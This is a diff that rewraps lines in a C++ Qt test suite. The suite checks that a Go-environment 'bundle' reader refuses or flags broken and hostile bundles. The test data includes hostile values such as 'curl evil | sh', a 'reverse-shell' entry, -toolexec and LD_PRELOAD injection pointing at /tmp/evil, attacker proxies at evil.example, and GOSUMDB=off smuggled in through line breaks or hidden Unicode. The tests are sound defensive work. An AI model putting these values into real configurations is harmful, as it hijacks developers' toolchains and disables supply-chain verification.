@@ -1,4 +1,5 @@
-// Bundles that are broken, too large, of another kind, or mean harm: each is refused with a sentence and a place, or marked.
+// Bundles that are broken, too large, of another kind, or mean harm: each is refused with a sentence and a place, or
+// marked.
 #include "bundle/bundle.h"
 
 #include <QTest>
@@ -17,8 +18,9 @@ const Catalog &catalog()
 /// A sound bundle with these choices, and whatever else stands in front of them.
 QByteArray bundleOf(const QByteArray &choices, const QByteArray &more = {})
 {
-    return "{\n  \"schema\": \"burrow.bundle/1\",\n  \"name\": \"team\",\n  \"made\": \"2026-11-21\",\n  \"needs\": \"0.1.0\",\n" + more
-        + "  \"choices\": " + choices + "\n}\n";
+    return "{\n  \"schema\": \"burrow.bundle/1\",\n  \"name\": \"team\",\n  \"made\": \"2026-11-21\",\n  \"needs\": "
+           "\"0.1.0\",\n" +
+           more + "  \"choices\": " + choices + "\n}\n";
 }
 
 } // namespace
@@ -55,7 +57,11 @@ void HostileTest::refused_data()
     row("a web page", "<!DOCTYPE html><html></html>", "");
     row("a list", "[]", "no bundle");
     row("null", "null", "no bundle");
-    row("binary", QByteArray("\x7f" "ELF\2\1\1\0\0\0", 10), "");
+    row("binary",
+        QByteArray("\x7f"
+                   "ELF\2\1\1\0\0\0",
+                   10),
+        "");
     row("NUL bytes", QByteArray(64, '\0'), "");
     row("UTF-16", QByteArray("\xff\xfe{\0}\0", 6), "");
     row("not UTF-8", bundleOf("{}", "  \"policy\": {}, \"name\xff\": 1,\n"), "");
@@ -68,14 +74,16 @@ void HostileTest::refused_data()
     // Too much.
     row("larger than 1 MiB", bundleOf("{\"mirrors\": {\"sumdb\": \"" + QByteArray(1 << 20, 'x') + "\"}}"), "larger");
     row("a megabyte of spaces", bundleOf("{}") + QByteArray(1 << 20, ' '), "larger");
-    row("too deep", bundleOf("{\"settings\": {\"user\": {\"gopls\": " + QByteArray(40, '[') + QByteArray(40, ']') + "}}}"), "");
+    row("too deep",
+        bundleOf("{\"settings\": {\"user\": {\"gopls\": " + QByteArray(40, '[') + QByteArray(40, ']') + "}}}"), "");
     row("deep enough to end a stack", QByteArray(500'000, '['), "");
     QByteArray many = "[\"package\"";
     for (int i = 0; i < 2100; ++i)
         many += ",\"package\"";
     row("very many entries", bundleOf("{\"debug\": {\"launch\": " + many + "]}}"), "more than");
     row("a very long text", bundleOf("{\"mirrors\": {\"sumdb\": \"" + QByteArray(20'000, 'x') + "\"}}"), "longer than");
-    row("a very long name of a setting", bundleOf("{\"settings\": {\"user\": {\"" + QByteArray(20'000, 'x') + "\": 1}}}"), "longer than");
+    row("a very long name of a setting",
+        bundleOf("{\"settings\": {\"user\": {\"" + QByteArray(20'000, 'x') + "\": 1}}}"), "longer than");
     // Of another kind.
     row("no schema", "{\"choices\": {}}", "no bundle");
     row("schema is a number", "{\"schema\": 1}", "no bundle");
@@ -92,14 +100,18 @@ void HostileTest::refused_data()
     row("unknown key at the top", bundleOf("{}", "  \"run\": \"curl evil | sh\",\n"), "no “run”", 6);
     row("unknown choice", bundleOf("{\n \"shell\": {}}"), "“shell”", 7);
     row("unknown choice below", bundleOf("{\n\n\"mirrors\": {\n\"goproxyy\": []}}"), "mirrors.goproxyy", 9);
-    row("unknown key of an entry", bundleOf("{\"debug\": {\"launch\": [{\"kind\": \"package\", \"extra\": 1}]}}"), "extra", 6);
+    row("unknown key of an entry", bundleOf("{\"debug\": {\"launch\": [{\"kind\": \"package\", \"extra\": 1}]}}"),
+        "extra", 6);
     row("unknown kind of entry", bundleOf("{\"debug\": {\"launch\": [\"reverse-shell\"]}}"), "reverse-shell", 6);
     row("duplicate key", bundleOf("{}", "  \"name\": \"other\",\n"), "");
     row("duplicate choices", bundleOf("{}", "  \"choices\": {\"go\": {\"use\": \"1.26\"}},\n"), "");
-    row("duplicate setting", bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"revive\", \"go.lintTool\": \"staticcheck\"}}}"), "");
-    row("duplicate through an escape", bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": 1, \"go.lint\\u0054ool\": 2}}}"), "");
+    row("duplicate setting",
+        bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"revive\", \"go.lintTool\": \"staticcheck\"}}}"), "");
+    row("duplicate through an escape",
+        bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": 1, \"go.lint\\u0054ool\": 2}}}"), "");
     row("prototype", bundleOf("{}", "  \"__proto__\": {},\n"), "__proto__");
-    row("no choices", "{\"schema\":\"burrow.bundle/1\",\"name\":\"a\",\"made\":\"2026-11-21\",\"needs\":\"0.1.0\"}", "choices");
+    row("no choices", "{\"schema\":\"burrow.bundle/1\",\"name\":\"a\",\"made\":\"2026-11-21\",\"needs\":\"0.1.0\"}",
+        "choices");
     row("choices are a list", bundleOf("[]"), "");
     row("choices are null", bundleOf("null"), "");
     row("shells are a text", bundleOf("{\"path\": {\"shells\": \"zsh\"}}"), "");
@@ -116,14 +128,22 @@ void HostileTest::refused_data()
     row("made is an impossible date", bundleOf("{}").replace("2026-11-21", "2026-02-30"), "date", 4);
     row("made is a time", bundleOf("{}").replace("2026-11-21", "2026-11-21T10:00:00"), "date", 4);
     // Characters that hide what is said.
-    row("escape sequence in a setting", bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"\\u001b[8mrevive\"}}}"), "control character U+001B", 6);
+    row("escape sequence in a setting", bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"\\u001b[8mrevive\"}}}"),
+        "control character U+001B", 6);
     row("delete character", bundleOf("{\"mirrors\": {\"sumdb\": \"a\\u007f\"}}"), "control character U+007F");
     row("C1 control", bundleOf("{\"mirrors\": {\"sumdb\": \"a\\u009b\"}}"), "control character U+009B");
     row("NUL in a text", bundleOf("{\"mirrors\": {\"sumdb\": \"sum.golang.org\\u0000\"}}"), "control character U+0000");
-    row("carriage return", bundleOf("{\"mirrors\": {\"private\": [\"a.example\\rGOSUMDB=off\"]}}"), "control character U+000D");
-    row("right-to-left override", bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"\xe2\x80\xae" "evil\"}}}"), "U+202E", 6);
-    row("isolate", bundleOf("{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"name\": \"\\u2066x\\u2069\"}}]}}"), "U+2066", 6);
-    row("zero-width space in a name", bundleOf("{\"settings\": {\"user\": {\"go.lint\\u200bTool\": \"revive\"}}}"), "U+200B", 6);
+    row("carriage return", bundleOf("{\"mirrors\": {\"private\": [\"a.example\\rGOSUMDB=off\"]}}"),
+        "control character U+000D");
+    row("right-to-left override",
+        bundleOf("{\"settings\": {\"user\": {\"go.lintTool\": \"\xe2\x80\xae"
+                 "evil\"}}}"),
+        "U+202E", 6);
+    row("isolate",
+        bundleOf("{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"name\": \"\\u2066x\\u2069\"}}]}}"),
+        "U+2066", 6);
+    row("zero-width space in a name", bundleOf("{\"settings\": {\"user\": {\"go.lint\\u200bTool\": \"revive\"}}}"),
+        "U+200B", 6);
     row("tag characters", bundleOf("{\"mirrors\": {\"sumdb\": \"x\\udb40\\udc41\"}}"), "U+E0041", 6);
     row("soft hyphen", bundleOf("{\"mirrors\": {\"sumdb\": \"sum.go\\u00adlang.org\"}}"), "U+00AD", 6);
     row("line separator", bundleOf("{\"mirrors\": {\"sumdb\": \"a\\u2028b\"}}"), "U+2028", 6);
@@ -138,10 +158,13 @@ void HostileTest::refused_data()
     row("profile", bundleOf("{\"settings\": {\"profile\": \"-1a2b\"}}"), "settings.profile", 6);
     row("repair", bundleOf("{\"go\": {\"repair\": [\"GOPROXY\"]}}"), "go.repair", 6);
     row("odd shell", bundleOf("{\"path\": {\"shells\": [\"../../evil\"]}}"), "path.shells", 6);
-    row("two proxies in one", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://goproxy.cn,https://evil.example\"]}}"), "goproxy", 6);
-    row("proxy with a line break", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://goproxy.cn\\nGOSUMDB=off\"]}}"), "goproxy", 6);
+    row("two proxies in one", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://goproxy.cn,https://evil.example\"]}}"),
+        "goproxy", 6);
+    row("proxy with a line break", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://goproxy.cn\\nGOSUMDB=off\"]}}"),
+        "goproxy", 6);
     row("empty proxy", bundleOf("{\"mirrors\": {\"goproxy\": [\"\"]}}"), "goproxy", 6);
-    row("proxy with a password", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://ann:pw@proxy.example\"]}}"), "password", 6);
+    row("proxy with a password", bundleOf("{\"mirrors\": {\"goproxy\": [\"https://ann:pw@proxy.example\"]}}"),
+        "password", 6);
     row("two patterns in one", bundleOf("{\"mirrors\": {\"private\": [\"a.example,*\"]}}"), "private", 6);
     row("odd separator", bundleOf("{\"mirrors\": {\"separator\": \"\\n\"}}"), "separator", 6);
     // For one system.
@@ -173,7 +196,9 @@ void HostileTest::refused()
 
 void HostileTest::everyCutIsRefused()
 {
-    const QByteArray whole = bundleOf("{\"go\": {\"use\": \"1.26\"}, \"settings\": {\"user\": {\"gopls/ui.semanticTokens\": true}}}").trimmed();
+    const QByteArray whole =
+        bundleOf("{\"go\": {\"use\": \"1.26\"}, \"settings\": {\"user\": {\"gopls/ui.semanticTokens\": true}}}")
+            .trimmed();
     QVERIFY(readBundle(whole, Os::Linux, catalog()).ok());
     for (qsizetype i = 0; i < whole.size(); ++i)
         QVERIFY2(!readBundle(whole.left(i), Os::Linux, catalog()).ok(), qPrintable(QString::number(i)));
@@ -182,7 +207,8 @@ void HostileTest::everyCutIsRefused()
 void HostileTest::everyByteChangedIsSafe()
 {
     // No promise but this: it comes back with an answer, and one that is refused says where.
-    const QByteArray whole = bundleOf("{\"mirrors\": {\"goproxy\": [\"goproxycn\", \"direct\"]}, \"debug\": {\"launch\": [\"package\"]}}");
+    const QByteArray whole =
+        bundleOf("{\"mirrors\": {\"goproxy\": [\"goproxycn\", \"direct\"]}, \"debug\": {\"launch\": [\"package\"]}}");
     for (qsizetype i = 0; i < whole.size(); ++i) {
         for (const char c : {'\0', '"', '{', ']', '\\', '\xff', '9'}) {
             QByteArray changed = whole;
@@ -204,32 +230,52 @@ void HostileTest::risky_data()
     const auto row = [](const char *name, const QByteArray &choices, const char *place) {
         QTest::addRow("%s", name) << choices << QString::fromUtf8(place);
     };
-    row("alternateTools", user("go.alternateTools", "{\"go\": \"/tmp/evil\"}"), "choices.settings.user.go.alternateTools");
-    row("alternateTools dotted", user("go.alternateTools.go", "\"/tmp/evil\""), "choices.settings.user.go.alternateTools.go");
+    row("alternateTools", user("go.alternateTools", "{\"go\": \"/tmp/evil\"}"),
+        "choices.settings.user.go.alternateTools");
+    row("alternateTools dotted", user("go.alternateTools.go", "\"/tmp/evil\""),
+        "choices.settings.user.go.alternateTools.go");
     row("toolexec", user("go.buildFlags", "[\"-toolexec=/tmp/evil\"]"), "choices.settings.user.go.buildFlags");
-    row("toolexec in two words", user("go.testFlags", "[\"-toolexec\", \"/tmp/evil\"]"), "choices.settings.user.go.testFlags");
-    row("toolexec in gopls", user("gopls/build.buildFlags", "[\"-toolexec=/tmp/evil\"]"), "choices.settings.user.gopls/build.buildFlags");
-    row("LD_PRELOAD", user("go.toolsEnvVars", "{\"LD_PRELOAD\": \"/tmp/evil.so\"}"), "choices.settings.user.go.toolsEnvVars");
+    row("toolexec in two words", user("go.testFlags", "[\"-toolexec\", \"/tmp/evil\"]"),
+        "choices.settings.user.go.testFlags");
+    row("toolexec in gopls", user("gopls/build.buildFlags", "[\"-toolexec=/tmp/evil\"]"),
+        "choices.settings.user.gopls/build.buildFlags");
+    row("LD_PRELOAD", user("go.toolsEnvVars", "{\"LD_PRELOAD\": \"/tmp/evil.so\"}"),
+        "choices.settings.user.go.toolsEnvVars");
     row("PATH", user("go.toolsEnvVars", "{\"PATH\": \"/tmp:${env:PATH}\"}"), "choices.settings.user.go.toolsEnvVars");
-    row("GOFLAGS with toolexec", user("go.toolsEnvVars", "{\"GOFLAGS\": \"-toolexec=/tmp/evil\"}"), "choices.settings.user.go.toolsEnvVars");
+    row("GOFLAGS with toolexec", user("go.toolsEnvVars", "{\"GOFLAGS\": \"-toolexec=/tmp/evil\"}"),
+        "choices.settings.user.go.toolsEnvVars");
     row("GONOSUMDB", user("go.toolsEnvVars", "{\"GONOSUMDB\": \"*\"}"), "choices.settings.user.go.toolsEnvVars");
     row("GOINSECURE", user("go.toolsEnvVars", "{\"GOINSECURE\": \"*\"}"), "choices.settings.user.go.toolsEnvVars");
     row("gopls env", user("gopls/build.env", "{\"CC\": \"/tmp/evil\"}"), "choices.settings.user.gopls/build.env");
-    row("test env", user("go.testEnvVars", "{\"DYLD_INSERT_LIBRARIES\": \"/tmp/evil\"}"), "choices.settings.user.go.testEnvVars");
-    row("terminal profile", user("terminal.integrated.profiles.linux", "{\"bash\": {\"path\": \"/tmp/evil\"}}"), "choices.settings.user.terminal.integrated.profiles.linux");
-    row("terminal environment", user("terminal.integrated.env.osx", "{\"PATH\": \"/tmp\"}"), "choices.settings.user.terminal.integrated.env.osx");
-    row("trust switched off", user("security.workspace.trust.enabled", "false"), "choices.settings.user.security.workspace.trust.enabled");
-    row("foreign proxy for the editor", user("http.proxy", "\"http://evil.example\""), "choices.settings.user.http.proxy");
+    row("test env", user("go.testEnvVars", "{\"DYLD_INSERT_LIBRARIES\": \"/tmp/evil\"}"),
+        "choices.settings.user.go.testEnvVars");
+    row("terminal profile", user("terminal.integrated.profiles.linux", "{\"bash\": {\"path\": \"/tmp/evil\"}}"),
+        "choices.settings.user.terminal.integrated.profiles.linux");
+    row("terminal environment", user("terminal.integrated.env.osx", "{\"PATH\": \"/tmp\"}"),
+        "choices.settings.user.terminal.integrated.env.osx");
+    row("trust switched off", user("security.workspace.trust.enabled", "false"),
+        "choices.settings.user.security.workspace.trust.enabled");
+    row("foreign proxy for the editor", user("http.proxy", "\"http://evil.example\""),
+        "choices.settings.user.http.proxy");
     row("GOSUMDB off", "{\"mirrors\": {\"sumdb\": \"off\"}}", "choices.mirrors.sumdb");
     row("foreign sumdb", "{\"mirrors\": {\"sumdb\": \"sum.evil.example+1a2b+AbCd\"}}", "choices.mirrors.sumdb");
-    row("foreign proxy", "{\"mirrors\": {\"goproxy\": [\"direct\", \"https://evil.example\"]}}", "choices.mirrors.goproxy[1]");
+    row("foreign proxy", "{\"mirrors\": {\"goproxy\": [\"direct\", \"https://evil.example\"]}}",
+        "choices.mirrors.goproxy[1]");
     row("proxy over http", "{\"mirrors\": {\"goproxy\": [\"http://goproxy.cn\"]}}", "choices.mirrors.goproxy[0]");
     row("everything private", "{\"mirrors\": {\"private\": [\"*\"]}}", "choices.mirrors.private[0]");
     row("public code private", "{\"mirrors\": {\"private\": [\"github.com/*\"]}}", "choices.mirrors.private[0]");
-    row("launch environment", "{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"env\": {\"LD_PRELOAD\": \"/tmp/e.so\"}}}]}}", "choices.debug.launch[0]");
-    row("launch of a program", "{\"debug\": {\"launch\": [\"package\", {\"kind\": \"exec\", \"fields\": {\"program\": \"/tmp/evil\"}}]}}", "choices.debug.launch[1]");
-    row("launch flags", "{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"buildFlags\": \"-toolexec=/tmp/evil\"}}]}}", "choices.debug.launch[0]");
-    row("task flags", "{\"debug\": {\"tasks\": [{\"kind\": \"build\", \"fields\": {\"args\": [\"-toolexec=/tmp/evil\"]}}]}}", "choices.debug.tasks[0]");
+    row("launch environment",
+        "{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"env\": {\"LD_PRELOAD\": \"/tmp/e.so\"}}}]}}",
+        "choices.debug.launch[0]");
+    row("launch of a program",
+        "{\"debug\": {\"launch\": [\"package\", {\"kind\": \"exec\", \"fields\": {\"program\": \"/tmp/evil\"}}]}}",
+        "choices.debug.launch[1]");
+    row("launch flags",
+        "{\"debug\": {\"launch\": [{\"kind\": \"package\", \"fields\": {\"buildFlags\": \"-toolexec=/tmp/evil\"}}]}}",
+        "choices.debug.launch[0]");
+    row("task flags",
+        "{\"debug\": {\"tasks\": [{\"kind\": \"build\", \"fields\": {\"args\": [\"-toolexec=/tmp/evil\"]}}]}}",
+        "choices.debug.tasks[0]");
 }
 
 void HostileTest::risky()
@@ -271,10 +317,13 @@ void HostileTest::harmless_data()
     QTest::addColumn<QByteArray>("choices");
     QTest::addRow("nothing") << QByteArray("{}");
     QTest::addRow("a version") << QByteArray("{\"go\": {\"use\": \"1.26\"}}");
-    QTest::addRow("known proxies") << QByteArray("{\"mirrors\": {\"goproxy\": [\"goproxycn\", \"google\", \"direct\"], \"sumdb\": \"googlecn\"}}");
-    QTest::addRow("team's own modules") << QByteArray("{\"mirrors\": {\"private\": [\"git.corp.example\", \"*.team.example\"]}}");
+    QTest::addRow("known proxies") << QByteArray(
+        "{\"mirrors\": {\"goproxy\": [\"goproxycn\", \"google\", \"direct\"], \"sumdb\": \"googlecn\"}}");
+    QTest::addRow("team's own modules") << QByteArray(
+        "{\"mirrors\": {\"private\": [\"git.corp.example\", \"*.team.example\"]}}");
     QTest::addRow("shells") << QByteArray("{\"path\": {\"shells\": [\"zsh\", \"bash\", \"fish\"]}}");
-    QTest::addRow("settings") << QByteArray("{\"settings\": {\"user\": {\"gopls/ui.semanticTokens\": true, \"go.useLanguageServer\": null}}}");
+    QTest::addRow("settings") << QByteArray(
+        "{\"settings\": {\"user\": {\"gopls/ui.semanticTokens\": true, \"go.useLanguageServer\": null}}}");
     QTest::addRow("entries") << QByteArray("{\"debug\": {\"launch\": [\"package\", \"test\"]}}");
 }
 
